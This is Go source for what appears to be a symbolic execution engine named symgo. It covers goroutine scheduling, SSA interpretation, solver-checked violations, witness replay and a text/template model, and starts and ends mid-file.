				res.Outcome = "inconclusive"
				res.Detail = "engine: " + x.Msg + in.where()
			case mergeFail:
				res.Outcome = "inconclusive"
				res.Detail = "engine: stray mergeFail " + x.why
			default:
				if os.Getenv("SYMGO_PANIC") != "" {
					panic(r)
				}
				res.Outcome = "inconclusive"
				res.Detail = fmt.Sprintf("engine panic: %v%s", r, in.where())
			}
		}
		in.w.noteFuncs(in.fnSeen)
		res.Alts = in.alts
		res.Steps = in.steps
		res.Observed = in.observed
		if res.Outcome == "inconclusive" {
			res.Inconcl = append(res.Inconcl, res.Detail)
		}
	}()
	g := in.newGoroutine("main")
	in.pushFrame(g, entry, nil, nil)
	in.schedule()
	return
}

func (in *Interp) where() string {
	if in.cur == nil || len(in.cur.stack) == 0 {
		return ""
	}
	var parts []string
	for i := len(in.cur.stack) - 1; i >= 0 && len(parts) < 6; i-- {
		fr := in.cur.stack[i]
		pos := ""
		if fr.block != nil && fr.pc < len(fr.block.Instrs) {
			pos = in.w.prog.Fset.Position(fr.block.Instrs[fr.pc].Pos()).String()
		}
		parts = append(parts, fr.fn.String()+" "+pos)
	}
	return " @ " + strings.Join(parts, " <- ")
}

func (in *Interp) newGoroutine(name string) *Goroutine {
	g := &Goroutine{id: len(in.gors), name: name}
	in.gors = append(in.gors, g)
	return g
}

func (in *Interp) pushFrame(g *Goroutine, fn *ssa.Function, args []Value, free []Value) *Frame {
	if fn.Blocks == nil {
		panic(engineErr("call to function without body: " + fn.String()))
	}
	if len(g.stack) > in.cfg.MaxDepth {
		in.inconclusive("call depth exceeded at " + fn.String())
	}
	fr := &Frame{fn: fn, env: make(map[ssa.Value]Value, 16), block: fn.Blocks[0]}
	if in.fnSeen == nil {
		in.fnSeen = map[*ssa.Function]bool{}
	}
	in.fnSeen[fn] = true
	if len(args) != len(fn.Params) {
		panic(engineErr(fmt.Sprintf("arity mismatch calling %s: %d args for %d params", fn, len(args), len(fn.Params))))
	}
	for i, p := range fn.Params {
		fr.env[p] = args[i]
	}
	for i, fv := range fn.FreeVars {
		fr.env[fv] = free[i]
	}
	g.stack = append(g.stack, fr)
	return fr
}

// schedule runs goroutines until the main goroutine finishes (or all block).
func (in *Interp) schedule() {
	for {
		main := in.gors[0]
		if main.status == gDone {
			return
		}
		var enabled []*Goroutine
		for _, g := range in.gors {
			switch g.status {
			case gRunnable:
				enabled = append(enabled, g)
			case gBlocked:
				if g.ready != nil && g.ready() {
					enabled = append(enabled, g)
				}
			}
		}
		// fire timers as environment steps only when harness asks; not here.
		if len(enabled) == 0 {
			var bl []string
			for _, g := range in.gors {
				if g.status == gBlocked {
					bl = append(bl, fmt.Sprintf("%s on %s", g.name, g.blockedOn))
				}
			}
			in.reportPathViolation(Violation{Label: "deadlock", Kind: "deadlock", Detail: "all goroutines blocked: " + strings.Join(bl, "; ")})
			in.abort("violation", "deadlock")
		}
		var g *Goroutine
		if len(enabled) == 1 {
			g = enabled[0]
		} else {
			// current goroutine first; preemption bounded
			curEnabled := false
			for _, e := range enabled {
				if e == in.cur {
					curEnabled = true
				}
			}
			var cands []*Goroutine
			if curEnabled {
				cands = append(cands, in.cur)
				if in.preempts < in.cfg.MaxPreempt {
					for _, e := range enabled {
						if e != in.cur {
							cands = append(cands, e)
						}
					}
				}
			} else {
				cands = enabled
			}
			nc := len(cands)
			if in.cfg.MaxDelay > 0 || in.cfg.DelayBounded {
				// delay-bounded scheduling: deviating from the default (first) candidate by k
				// positions costs k delays out of a per-path budget
				left := in.cfg.MaxDelay - in.delays
				if left < 0 {
					left = 0
				}
				if nc > left+1 {
					nc = left + 1
				}
			}
			c := in.choose(nc, "sched")
			in.delays += c
			g = cands[c]
			if curEnabled && g != in.cur {
				in.preempts++
			}
		}
		if g != in.cur && in.cur != nil {
			in.sched = append(in.sched, fmt.Sprintf("switch %s -> %s", in.cur.name, g.name))
		}
		in.cur = g
		g.status = gRunnable
		g.ready = nil
		in.runUntilYield(g)
	}
}

const (
	stOK = iota
	stYield
	stBlocked
)

// runUntilYield executes g until it yields at a sync point, blocks, or finishes.
func (in *Interp) runUntilYield(g *Goroutine) {
	for {
		if len(g.stack) == 0 {
			g.status = gDone
			return
		}
		st := in.step(g)
		if st == stYield || st == stBlocked {
			return
		}
		if g.status == gDone {
			return
		}
	}
}

// syncPoint is called by synchronising operations before they take effect. It returns true
// if the goroutine must yield to the scheduler first.
func (in *Interp) syncPoint(g *Goroutine) bool {
	if in.inSync > 0 {
		return false
	}
	if g.atSync {
		g.atSync = false
		return false
	}
	// only worth yielding when some other goroutine exists that is not done
	others := false
	for _, o := range in.gors {
		if o != g && o.status != gDone {
			others = true
			break
		}
	}
	if !others {
		return false
	}
	g.atSync = true
	return true
}

func (in *Interp) block(g *Goroutine, on string, ready func() bool) {
	g.status = gBlocked
	g.ready = ready
	g.blockedOn = on
	g.atSync = true // when woken, do not yield again before retrying the op
}

// ---------- violations ----------

func (in *Interp) reportViolation(v Violation, model map[string]uint64) {
	v.Model = model
	v.Nondets = append([]NondetRec(nil), in.nondets...)
	v.Trace = append([]Decision(nil), in.trace...)
	v.Events = append([]string(nil), in.events...)
	v.Sched = append([]string(nil), in.sched...)
	if v.Pos == "" {
		v.Pos = strings.TrimPrefix(in.where(), " @ ")
	}
	in.res.Violations = append(in.res.Violations, v)
}

// checkObligation: ask whether cond can be false under the path condition.
// Returns true if discharged (cond always holds).
func (in *Interp) checkObligation(cond *Term, label, kind, detail string) bool {
	if cond.IsTrue() {
		in.res.Asserts++
		return true
	}
	r := in.solver.Check(Not(cond))
	switch r {
	case "unsat":
		in.solver.Done()
		in.res.Asserts++
		return true
	case "sat":
		m := in.solver.Model(in.allVars)
		in.solver.Done()
		in.reportViolation(Violation{Label: label, Kind: kind, Detail: detail}, m)
		return false
	default:
		in.solver.Done()
		in.res.Inconcl = append(in.res.Inconcl, "solver unknown on obligation "+label+" "+in.solver.LastError)
		return false
	}
}

// goPanic raises a Go panic in goroutine g.
func (in *Interp) goPanic(g *Goroutine, p *PanicV) {
	if p.Pos == "" {
		p.Pos = strings.TrimPrefix(in.where(), " @ ")
	}
	if len(in.wlog) > 0 && in.mergeDepth > 0 {
		panic(mergeFail{"panic in merged region"})
	}
	g.panicking = p
	g.recovered = false
	if len(g.stack) > 0 {
		g.stack[len(g.stack)-1].mode = 2
	}
}

func (in *Interp) posOf(i ssa.Instruction) string {
	p := in.w.prog.Fset.Position(i.Pos())
	if !p.IsValid() {
		return ""
	}
	return fmt.Sprintf("%s:%d", p.Filename, p.Line)
}

// ---------- instruction stepping ----------

func (in *Interp) get(fr *Frame, v ssa.Value) Value {
	switch x := v.(type) {
	case *ssa.Const:
		return in.constValue(x)
	case *ssa.Global:
		return &PtrV{C: in.globalCell(x)}
	case *ssa.Function:
		return &FuncV{Fn: x}
	case *ssa.Builtin:
		return &FuncV{Builtin: "builtin:" + x.Name()}
	case nil:
		return nil
	}
	r, ok := fr.env[v]
	if !ok {
		panic(engineErr(fmt.Sprintf("unbound SSA value %s (%T) in %s", v.Name(), v, fr.fn)))
	}
	return r
}

func (in *Interp) constValue(c *ssa.Const) Value {
	t := c.Type()
	if c.Value == nil {
		if _, ok := t.(*types.TypeParam); ok {
			panic(engineErr("const of type parameter"))
		}
		return zeroValue(t)
	}
	if w, _, ok := intWidth(t); ok {
		if i, exact := constInt(c); exact {
			return Const(w, i)
		}
		panic(engineErr("non-integer constant for integer type"))
	}
	if isBool(t) {
		return BoolC(constBool(c))
	}
	if isString(t) {
		return strConst(constString(c))
	}
	if isFloat(t) {
		return &NativeV{X: constFloat(c)}
	}
	panic(engineErr("constant of type " + t.String()))
}

func (in *Interp) step(g *Goroutine) int {
	fr := g.stack[len(g.stack)-1]
	if fr.mode != 0 {
		return in.stepDefers(g, fr)
	}
	in.steps++
	if in.steps > in.cfg.MaxSteps {
		in.inconclusive(fmt.Sprintf("step bound %d exceeded (unwinding assertion)", in.cfg.MaxSteps))
	}
	instr := fr.block.Instrs[fr.pc]
	if in.cfg.Trace {
		fmt.Fprintf(os.Stderr, "[g%d %s b%d.%d] %T %s\n", g.id, fr.fn.Name(), fr.block.Index, fr.pc, instr, instr)
	}
	switch x := instr.(type) {
	case *ssa.Jump:
		in.jump(fr, fr.block.Succs[0])
		return stOK
	case *ssa.If:
		c := in.get(fr, x.Cond).(*Term)
		if !c.IsConst() && in.cfg.Merge {
			if in.tryMergeIf(g, fr, x, c) {
				return stOK
			}
		}
		if in.branch(c) {
			in.jump(fr, fr.block.Succs[0])
		} else {
			in.jump(fr, fr.block.Succs[1])
		}
		return stOK
	case *ssa.Return:
		var rv Value
		switch len(x.Results) {
		case 0:
		case 1:
			rv = in.get(fr, x.Results[0])
		default:
			t := &TupleV{E: make([]Value, len(x.Results))}
			for i, r := range x.Results {
				t.E[i] = in.get(fr, r)
			}
			rv = t
		}
		in.doReturn(g, fr, rv)
		return stOK
	case *ssa.RunDefers:
		fr.pc++
		if len(fr.defers) > 0 {
			fr.mode = 1
		}
		return stOK
	case *ssa.Panic:
		v := in.get(fr, x.X)
		in.goPanic(g, &PanicV{V: v, Kind: "explicit", Msg: in.panicMsg(v), Pos: in.posOf(x)})
		return stOK
	case *ssa.Call:
		return in.doCall(g, fr, x, &x.Call, x)
	case *ssa.Defer:
		if in.mergeDepth > 0 && len(in.captures) == 0 {
			// defers of frames created inside the region are fine; the region's own frame is rejected statically
		}
		d := in.prepareDeferred(fr, &x.Call)
		fr.defers = append(fr.defers, d)
		fr.pc++
		return stOK
	case *ssa.Go:
		if in.mergeDepth > 0 {
			panic(mergeFail{"go statement in merged region"})
		}
		if in.syncPoint(g) {
			return stYield
		}
		d := in.prepareDeferred(fr, &x.Call)
		ng := in.newGoroutine(fmt.Sprintf("g%d@%s", len(in.gors), in.posOf(x)))
		ng.site = in.posOf(x)
		in.startCallIn(ng, d)
		fr.pc++
		return stOK
	case *ssa.Send:
		if in.mergeDepth > 0 {
			panic(mergeFail{"channel send in merged region"})
		}
		return in.doSend(g, fr, x)
	case *ssa.Select:
		if in.mergeDepth > 0 {
			panic(mergeFail{"select in merged region"})
		}
		return in.doSelect(g, fr, x)
	case *ssa.Store:
		addr := in.get(fr, x.Addr).(*PtrV)
		if addr.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (store)", Pos: in.posOf(x)})
			return stOK
		}
		in.store(addr.C, in.get(fr, x.Val))
		fr.pc++
		return stOK
	case *ssa.MapUpdate:
		if in.mergeDepth > 0 {
			panic(mergeFail{"map update in merged region"})
		}
		m := in.get(fr, x.Map).(*MapV)
		if m.M == nil {
			in.goPanic(g, &PanicV{Kind: "nilmap", Msg: "assignment to entry in nil map", Pos: in.posOf(x)})
			return stOK
		}
		in.mapUpdate(m.M, in.get(fr, x.Key), in.get(fr, x.Value))
		fr.pc++
		return stOK
	case *ssa.DebugRef:
		fr.pc++
		return stOK
	case ssa.Value:
		if u, ok := instr.(*ssa.UnOp); ok && u.Op == token.ARROW {
			if in.mergeDepth > 0 {
				panic(mergeFail{"channel receive in merged region"})
			}
			return in.doRecv(g, fr, u)
		}
		v, ok := in.evalValueInstr(g, fr, x)
		if !ok {
			return stOK // panic raised
		}
		fr.env[x] = v
		fr.pc++
		return stOK
	}
	panic(engineErr(fmt.Sprintf("unsupported instruction %T: %s", instr, instr)))
}

func (in *Interp) jump(fr *Frame, to *ssa.BasicBlock) {
	// loop bound per frame: count entries to each block
	if fr.loopCnt == nil {
		fr.loopCnt = map[*ssa.BasicBlock]int{}
	}
	fr.loopCnt[to]++
	if fr.loopCnt[to] > in.cfg.Unwind {
		in.inconclusive(fmt.Sprintf("unwinding assertion: block %d of %s entered more than %d times", to.Index, fr.fn, in.cfg.Unwind))
	}
	fr.prev = fr.block
	fr.block = to
	fr.pc = 0
	// evaluate phis simultaneously
	var phis []*ssa.Phi
	for _, i := range to.Instrs {
		p, ok := i.(*ssa.Phi)
		if !ok {
			break
		}
		phis = append(phis, p)
	}
	if len(phis) > 0 {
		idx := -1
		for i, p := range to.Preds {
			if p == fr.prev {
				idx = i
				break
			}
		}
		vals := make([]Value, len(phis))
		for i, p := range phis {
			vals[i] = in.get(fr, p.Edges[idx])
		}
		for i, p := range phis {
			fr.env[p] = vals[i]
		}
		fr.pc = len(phis)
	}
}

func (in *Interp) doReturn(g *Goroutine, fr *Frame, rv Value) {
	if n := len(in.captures); n > 0 && in.captures[n-1].fr == fr && !in.captures[n-1].done {
		in.captures[n-1].val = rv
		in.captures[n-1].done = true
		return
	}
	g.stack = g.stack[:len(g.stack)-1]
	if fr.onRet != nil {
		fr.onRet(rv)
		return
	}
	if len(g.stack) == 0 {
		g.status = gDone
		return
	}
	caller := g.stack[len(g.stack)-1]
	if fr.isDefer {
		// caller continues its defer loop (mode 1 or 2)
		return
	}
	if fr.call != nil {
		caller.env[fr.call] = rv
	}
	caller.pc++
}

// stepDefers runs pending deferred calls of fr (mode 1: normal exit via RunDefers, mode 2: panic)
func (in *Interp) stepDefers(g *Goroutine, fr *Frame) int {
	if len(fr.defers) > 0 {
		d := fr.defers[len(fr.defers)-1]
		fr.defers = fr.defers[:len(fr.defers)-1]
		in.startDeferredCall(g, d)
		return stOK
	}
	if fr.mode == 1 {
		fr.mode = 0
		return stOK
	}
	// mode 2: panic unwinding, no more defers in this frame
	if g.panicking == nil {
		// recovered: resume at Recover block or return zero values
		fr.mode = 0
		if fr.fn.Recover != nil {
			fr.prev = fr.block
			fr.block = fr.fn.Recover
			fr.pc = 0
			return stOK
		}
		var rv Value
		res := fr.fn.Signature.Results()
		switch res.Len() {
		case 0:
		case 1:
			rv = zeroValue(res.At(0).Type())
		default:
			rv = zeroValue(res)
		}
		in.doReturn(g, fr, rv)
		return stOK
	}
	// propagate to caller
	if fr.nativeBarrier {
		panic(engineErr("Go panic inside synchronous native call: " + g.panicking.Msg))
	}
	g.stack = g.stack[:len(g.stack)-1]
	if len(g.stack) == 0 {
		p := g.panicking
		g.status = gDone
		in.reportPathViolation(Violation{Label: "panic", Kind: "panic", Detail: fmt.Sprintf("goroutine %s: panic: %s [%s]", g.name, p.Msg, p.Kind), Pos: p.Pos})
		in.abort("panic", p.Msg)
	}
	g.stack[len(g.stack)-1].mode = 2
	return stOK
}

// reportPathViolation reports a violation that is a path OUTCOME (panic, deadlock, a point
// declared unreachable) rather than a failed obligation.  Branches are followed when the solver
// cannot refute them ("unknown" keeps a branch), so the path condition is put to the solver
// once more here: only a satisfiable path is a violation; a refuted one is dropped; an
// undecided one makes the instance inconclusive - never a violation without a witness.
func (in *Interp) reportPathViolation(v Violation) bool {
	r := in.solver.Check(nil)
	switch r {
	case "sat":
		m := in.solver.Model(in.allVars)
		in.solver.Done()
		in.reportViolation(v, m)
		return true
	case "unsat":
		in.solver.Done()
		in.abort("pruned", "infeasible path (reached through an undecided branch)")
		return false
	default:
		in.solver.Done()
		in.res.Inconcl = append(in.res.Inconcl, "path feasibility undecided at "+v.Kind+" ("+v.Detail+") "+in.solver.LastError)
		in.abort("inconclusive", "path feasibility undecided at "+v.Kind)
		return false
	}
}

func (in *Interp) currentModel() map[string]uint64 {
	r := in.solver.Check(nil)
	if r != "sat" {
		in.solver.Done()
		return nil
	}
	m := in.solver.Model(in.allVars)
	in.solver.Done()
	return m
}

func (in *Interp) panicMsg(v Value) string {
	switch x := v.(type) {
	case *IfaceV:
		if x.T == nil {
			return "nil"
		}
		if s, ok := x.V.(*StrV); ok {
			return s.String()
		}
		return fmt.Sprintf("value of type %s", x.T)
	case *StrV:
		return x.String()
	}
	return describe(v)
}

// ---------- memory ----------

func (in *Interp) loadLeaf(c *Cell) Value {
	for i := len(in.wlog) - 1; i >= 0; i-- {
		if v, ok := in.wlog[i][c]; ok {
			return v
		}
	}
	return c.V
}

func (in *Interp) storeLeaf(c *Cell, v Value) {
	if c.Frozen {
		panic(engineErr("store into a merged (read-only) slice view"))
	}
	if n := len(in.wlog); n > 0 {
		in.wlog[n-1][c] = v
		return
	}
	c.V = v
}

func (in *Interp) load(c *Cell) Value {
	if c.Kids == nil {
		return in.loadLeaf(c)
	}
	switch c.T.Underlying().(type) {
	case *types.Struct:
		sv := &StructV{F: make([]Value, len(c.Kids))}
		for i, k := range c.Kids {
			sv.F[i] = in.load(k)
		}
		return sv
	default:
		av := &ArrayV{E: make([]Value, len(c.Kids))}
		for i, k := range c.Kids {
			av.E[i] = in.load(k)
		}
		return av
	}
}

func (in *Interp) store(c *Cell, v Value) {
	if c.Kids == nil {
		if _, isArr := c.T.Underlying().(*types.Array); isArr {
			return // zero-length array
		}
		if _, isSt := c.T.Underlying().(*types.Struct); isSt {
			return // empty struct
		}
		in.storeLeaf(c, v)
		return
	}
	switch x := v.(type) {
	case *StructV:
		for i, k := range c.Kids {
			in.store(k, x.F[i])
		}
	case *ArrayV:
		for i, k := range c.Kids {
			in.store(k, x.E[i])
		}
	default:
		panic(engineErr(fmt.Sprintf("store of %T into composite cell of type %s", v, c.T)))
	}
}

func (in *Interp) globalCell(gl *ssa.Global) *Cell {
	if c, ok := in.globals[gl]; ok {
		return c
	}
	t := gl.Type().(*types.Pointer).Elem()
	c := newCell(t, nil)
	in.globals[gl] = c
	in.initGlobal(gl, c)
	return c
}

// ---------- maps ----------

func (in *Interp) keyEq(a, b Value) *Term {
	return in.valuesEqual(a, b)
}

func (in *Interp) mapLookup(m *MapObj, k Value) (Value, bool) {
	if m == nil {
		return nil, false
	}
	for _, e := range m.E {
		eq := in.keyEq(e.K, k)
		if in.branch(eq) {
			return e.V, true
		}
	}
	return nil, false
}

func (in *Interp) mapUpdate(m *MapObj, k, v Value) {
	for i, e := range m.E {
		eq := in.keyEq(e.K, k)
		if in.branch(eq) {
			m.E[i].V = v
			return
		}
	}
	m.E = append(m.E, MapEntry{K: k, V: v})
}

func (in *Interp) mapDelete(m *MapObj, k Value) {
	if m == nil {
		return
	}
	for i, e := range m.E {
		eq := in.keyEq(e.K, k)
		if in.branch(eq) {
			m.E = append(append([]MapEntry(nil), m.E[:i]...), m.E[i+1:]...)
			return
		}
	}
}

// sortedMapEntries returns map entries in the iteration order used by the engine.
func (in *Interp) mapIterOrder(m *MapObj) []MapEntry {
	es := append([]MapEntry(nil), m.E...)
	if in.cfg.MapOrder == "rotate" && len(es) > 1 {
		r := in.choose(len(es), "maporder")
		es = append(es[r:], es[:r]...)
		if in.cfg.MapReverse {
			if in.choose(2, "maprev") == 1 {
				for i, j := 0, len(es)-1; i < j; i, j = i+1, j-1 {
					es[i], es[j] = es[j], es[i]
				}
			}
		}
	}
	return es
}

// ---------- equality ----------

func (in *Interp) valuesEqual(a, b Value) *Term {
	switch x := a.(type) {
	case *Term:
		y, ok := b.(*Term)
		if !ok {
			panic(engineErr(fmt.Sprintf("compare scalar with %T", b)))
		}
		return Eq(x, y)
	case *StrV:
		y := b.(*StrV)
		if len(x.B) != len(y.B) {
			return FalseT
		}
		r := TrueT
		for i := range x.B {
			r = And(r, Eq(x.B[i], y.B[i]))
			if r.IsFalse() {
				return r
			}
		}
		return r
	case *PtrV:
		y := b.(*PtrV)
		return BoolC(x.C == y.C)
	case *StructV:
		y := b.(*StructV)
		r := TrueT
		for i := range x.F {
			r = And(r, in.valuesEqual(x.F[i], y.F[i]))
		}
		return r
	case *ArrayV:
		y := b.(*ArrayV)
		r := TrueT
		for i := range x.E {
			r = And(r, in.valuesEqual(x.E[i], y.E[i]))
		}
		return r
	case *IfaceV:
		y, ok := b.(*IfaceV)
		if !ok {
			if b == nil {
				return BoolC(x.T == nil)
			}
			panic(engineErr(fmt.Sprintf("compare iface with %T", b)))
		}
		if x.T == nil || y.T == nil {
			return BoolC(x.T == nil && y.T == nil)
		}
		if !types.Identical(x.T, y.T) {
			return FalseT
		}
		return in.valuesEqual(x.V, y.V)
	case *FuncV:
		y, ok := b.(*FuncV)
		if !ok {
			return BoolC(isNilFunc(x) && b == nil)
		}
		if isNilFunc(x) || isNilFunc(y) {
			return BoolC(isNilFunc(x) && isNilFunc(y))
		}
		panic(engineErr("comparison of non-nil funcs"))
	case *MapV:
		y := b.(*MapV)
		return BoolC(x.M == y.M)
	case *ChanV:
		y := b.(*ChanV)
		return BoolC(x.C == y.C)
	case *SliceV:
		y := b.(*SliceV)
		if x.Nil || y.Nil {
			return BoolC(x.Nil && y.Nil)
		}
		panic(engineErr("comparison of non-nil slices"))
	case *NativeV:
		y, ok := b.(*NativeV)
		if !ok {
			return FalseT
		}
		return BoolC(x.X == y.X)
	case nil:
		switch y := b.(type) {
		case nil:
			return TrueT
		case *IfaceV:
			return BoolC(y.T == nil)
		case *PtrV:
			return BoolC(y.C == nil)
		}
	}
	panic(engineErr(fmt.Sprintf("valuesEqual: unsupported %T vs %T", a, b)))
}

// ---------- misc helpers ----------

func sortedKeys(m map[string]bool) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
