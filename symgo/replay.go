package main

// replay.go - `symgo replay <witness.json>`: re-run one reported counterexample against /repo's
// current tree: natively when the harness is natively replayable, otherwise by re-executing
// the harness instance symbolically and looking for the same assertion label.

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
)

type witnessFile struct {
	Property     string         `json:"property"`
	Harness      string         `json:"harness"`
	Params       map[string]int `json:"params"`
	Label        string         `json:"label"`
	Pkg          string         `json:"pkg"`
	HarnessFiles []string       `json:"harness_files"`
	Witness      NativeWitness  `json:"witness"`
	Native       *struct {
		Status string `json:"status"`
	} `json:"native_replay"`
}

func cmdReplay(args []string) int {
	if len(args) < 1 {
		fmt.Println("usage: symgo replay <witness.json>")
		return 2
	}
	b, err := os.ReadFile(args[0])
	if err != nil {
		fmt.Println("ENGINE-ERROR:", err)
		return 2
	}
	var wf witnessFile
	if err := json.Unmarshal(b, &wf); err != nil {
		fmt.Println("ENGINE-ERROR:", err)
		return 2
	}
	root := verifRoot()
	specB, err := os.ReadFile(filepath.Join(root, "checks", wf.Property+".json"))
	if err != nil {
		fmt.Println("ENGINE-ERROR:", err)
		return 2
	}
	var spec CheckSpec
	json.Unmarshal(specB, &spec)
	var grp *PkgSpec
	for i := range spec.Groups {
		if spec.Groups[i].Pkg == wf.Pkg {
			grp = &spec.Groups[i]
		}
	}
	if grp == nil {
		fmt.Println("ENGINE-ERROR: no group for package", wf.Pkg)
		return 2
	}
	tmp, _ := os.MkdirTemp("", "verif-replay-")
	defer os.RemoveAll(tmp)
	gr := &groupRun{spec: *grp, tmp: tmp}
	for _, h := range grp.Harness {
		gr.files = append(gr.files, filepath.Join(root, h))
	}
	fb, _ := os.ReadFile(gr.files[0])
	m := pkgClauseRe.FindSubmatch(fb)
	gr.pkgName = string(m[1])
	if wf.Native != nil {
		rs, err := nativeReplay("/repo", root, gr, []replayItem{{ID: "r", Entry: wf.Harness, Witness: wf.Witness}})
		if err != nil {
			fmt.Println("ENGINE-ERROR:", err)
			return 2
		}
		r := rs["r"]
		fmt.Printf("native replay of %s %v: status=%s failed-assertions=%v\n", wf.Harness, wf.Params, r.Status, r.Failures)
		if r.Status == "pass" || r.Status == "assume-failed" {
			fmt.Println("does not reproduce on the current tree")
			return 0
		}
		fmt.Printf("VIOLATION property=%s replay=%s\n", wf.Property, args[0])
		return 1
	}
	// symbolic re-run of the instance
	decl := filepath.Join(tmp, "decl.go")
	instantiate(filepath.Join(root, "harness/common/verif_decl.go.tmpl"), decl, gr.pkgName)
	files := []string{decl}
	for _, api := range grp.API {
		d2 := filepath.Join(tmp, "decl_"+api+".go")
		instantiate(filepath.Join(root, "harness/common/verif_decl_"+api+".go.tmpl"), d2, gr.pkgName)
		files = append(files, d2)
	}
	w, err := LoadWorld("/repo", grp.Pkg, append(files, gr.files...), "")
	if err != nil {
		fmt.Println("ENGINE-ERROR:", err)
		return 2
	}
	var js *JobSpec
	for _, set := range [][]JobSpec{grp.Thorough, grp.Quick} {
		for i := range set {
			if set[i].Entry == wf.Harness {
				js = &set[i]
			}
		}
	}
	if js == nil {
		fmt.Println("ENGINE-ERROR: harness not in spec")
		return 2
	}
	cfg := mkConfig(*js, wf.Params, "quick")
	j := &jobState{cfg: cfg, w: w, entry: wf.Harness, outcomes: map[string]int{}, reaches: map[string]bool{}}
	runJobs([]*jobState{j}, 16, false)
	for _, v := range j.viol {
		if v.Label == wf.Label {
			fmt.Printf("symbolic re-run of %s %v: label %s is still violated (%d paths explored)\n", wf.Harness, wf.Params, wf.Label, j.paths)
			fmt.Printf("VIOLATION property=%s replay=%s\n", wf.Property, args[0])
			return 1
		}
	}
	fmt.Printf("symbolic re-run of %s %v: label %s no longer violated (%d paths explored, %d inconclusive)\n", wf.Harness, wf.Params, wf.Label, j.paths, len(j.inconcl))
	return 0
}
