package main

// tmplmodel.go - engine model of text/template for the node kinds used in the repo:
// text, {{.Field}} / {{.}} on strings, {{range .}} over string slices, {{template "x" .}},
// {{define}}, comments and trim markers.  The template text must be concrete (it is parsed
// with the real text/template/parse); data values may be symbolic strings.  A template whose
// text is not concrete becomes an opaque template: Parse may fail, Execute may fail before or
// after writing an arbitrary prefix.

import (
	"fmt"
	"go/types"
	"text/template/parse"
)

type tmplState struct {
	name   string
	trees  map[string]*parse.Tree
	opaque bool
}

func (in *Interp) tmplOf(v Value) *tmplState {
	p, ok := v.(*PtrV)
	if !ok || p.C == nil {
		panic(engineErr("nil *template.Template"))
	}
	k := fmt.Sprintf("tmpl:%p", p.C)
	if s, ok := in.natives[k]; ok {
		return s.(*tmplState)
	}
	s := &tmplState{trees: map[string]*parse.Tree{}}
	in.natives[k] = s
	return s
}

func (in *Interp) newTemplate(name string) (*PtrV, *tmplState) {
	t := lookupType(in.w.prog, "text/template", "Template")
	if t == nil {
		panic(engineErr("text/template.Template type not found"))
	}
	p := &PtrV{C: newCell(t, nil)}
	st := in.tmplOf(p)
	st.name = name
	return p, st
}

func init() {
	reg("text/template.New", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		name := concreteStr(c.args[0], "template name")
		p, _ := in.newTemplate(name)
		return done(p)
	})
	reg("(*text/template.Template).Parse", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		st := in.tmplOf(c.args[0])
		text, ok := c.args[1].(*StrV).Concrete()
		if !ok {
			// opaque template: parsing an arbitrary text may fail
			if in.choose(2, "template.Parse") == 1 {
				return done(tuple(&PtrV{}, in.newErrorString(strConst("template: parse error"))))
			}
			st.opaque = true
			return done(tuple(c.args[0], &IfaceV{}))
		}
		trees, err := parse.Parse(st.name, text, "{{", "}}", map[string]interface{}{})
		if err != nil {
			return done(tuple(&PtrV{}, in.newErrorString(strConst(err.Error()))))
		}
		for k, v := range trees {
			st.trees[k] = v
		}
		return done(tuple(c.args[0], &IfaceV{}))
	})
	reg("text/template.Must", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		if e := c.args[1].(*IfaceV); e.T != nil {
			in.goPanic(g, &PanicV{V: e, Kind: "explicit", Msg: "template.Must: " + in.panicMsg(e)})
			return nil, irPanic
		}
		return done(c.args[0])
	})
	reg("(*text/template.Template).Execute", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		st := in.tmplOf(c.args[0])
		w := c.args[1].(*IfaceV)
		if st.opaque {
			switch in.choose(3, "template.Execute") {
			case 0:
				out := []*Term{in.freshVar("tout", 8), in.freshVar("tout", 8)}
				in.writeTo(g, c, w, out)
				return done(&IfaceV{})
			case 1:
				out := []*Term{in.freshVar("tout", 8)}
				in.writeTo(g, c, w, out)
				return done(in.newErrorString(strConst("template: exec error after partial output")))
			default:
				return done(in.newErrorString(strConst("template: exec error")))
			}
		}
		tree := st.trees[st.name]
		if tree == nil || tree.Root == nil {
			return done(in.newErrorString(strConst("template: incomplete or empty template")))
		}
		var out []*Term
		if err := in.tmplWalk(g, st, tree.Root, c.args[2], &out); err != "" {
			in.inconclusive("text/template model: " + err)
		}
		_, r := in.writeTo(g, c, w, out)
		if r != irDone {
			return nil, r
		}
		return done(&IfaceV{})
	})
}

func (in *Interp) tmplWalk(g *Goroutine, st *tmplState, n parse.Node, dot Value, out *[]*Term) string {
	switch x := n.(type) {
	case *parse.ListNode:
		if x == nil {
			return ""
		}
		for _, c := range x.Nodes {
			if e := in.tmplWalk(g, st, c, dot, out); e != "" {
				return e
			}
		}
		return ""
	case *parse.TextNode:
		for _, b := range x.Text {
			*out = append(*out, Const(8, uint64(b)))
		}
		return ""
	case *parse.CommentNode:
		return ""
	case *parse.ActionNode:
		v, e := in.tmplPipe(g, x.Pipe, dot)
		if e != "" {
			return e
		}
		s, ok := in.tmplString(g, v)
		if !ok {
			return "cannot print value " + describe(v)
		}
		*out = append(*out, s.B...)
		return ""
	case *parse.RangeNode:
		v, e := in.tmplPipe(g, x.Pipe, dot)
		if e != "" {
			return e
		}
		if iv, ok := v.(*IfaceV); ok {
			v = iv.V
		}
		sl, ok := v.(*SliceV)
		if !ok {
			return "range over " + describe(v)
		}
		if sl.Len == 0 && x.ElseList != nil {
			return in.tmplWalk(g, st, x.ElseList, dot, out)
		}
		for i := 0; i < sl.Len; i++ {
			if e := in.tmplWalk(g, st, x.List, in.load(sl.Cells[i]), out); e != "" {
				return e
			}
		}
		return ""
	case *parse.TemplateNode:
		t := st.trees[x.Name]
		if t == nil {
			return "template " + x.Name + " not defined"
		}
		nd := dot
		if x.Pipe != nil {
			v, e := in.tmplPipe(g, x.Pipe, dot)
			if e != "" {
				return e
			}
			nd = v
		}
		return in.tmplWalk(g, st, t.Root, nd, out)
	}
	return fmt.Sprintf("unsupported template node %T", n)
}

func (in *Interp) tmplPipe(g *Goroutine, p *parse.PipeNode, dot Value) (Value, string) {
	if p == nil || len(p.Cmds) != 1 || len(p.Decl) != 0 || len(p.Cmds[0].Args) != 1 {
